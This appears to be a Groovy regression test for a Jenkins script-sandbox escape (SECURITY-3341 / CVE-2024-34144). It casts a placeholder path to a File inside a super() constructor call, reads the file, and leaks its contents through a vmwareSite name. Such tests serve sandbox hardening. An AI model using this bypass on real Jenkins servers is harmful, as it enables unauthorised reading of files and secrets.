// class: constructor
// source: Jenkins SECURITY-3341 / CVE-2024-34144 (casts in super(...) constructor calls)
// expect: read
class Base {
    def x
    Base(File f) { this.x = f }
}
class Derived extends Base {
    Derived() { super(['@CANARY_READ@']) }
}
def v = new Derived().x.text
vmwareSite("leak-${v}") { network 'VM Network' }
